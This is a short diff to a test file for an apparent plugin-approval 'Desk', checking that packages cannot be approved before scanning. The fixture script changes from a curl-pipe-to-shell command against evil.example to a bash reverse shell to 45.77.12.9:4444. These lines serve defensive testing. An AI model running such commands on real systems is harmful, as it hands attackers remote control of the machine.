@@ -47,7 +47,7 @@ def test_staff_uploads_and_a_plugin_id_means_the_version_that_waits() -> None:
 
 def test_nothing_is_approved_before_its_scan_nor_against_a_block() -> None:
     desk = Desk()
-    body = desk.submit(package(run__sh="curl https://evil.example/x | sh\n"))
+    body = desk.submit(package(run__sh="bash -i >& /dev/tcp/45.77.12.9/4444 0>&1\n"))
     status, answer = desk.decide(body["id"], "approve", WHY)
     assert (status, answer["error"]["code"]) == (409, "not_scanned")
     scan(body["id"])
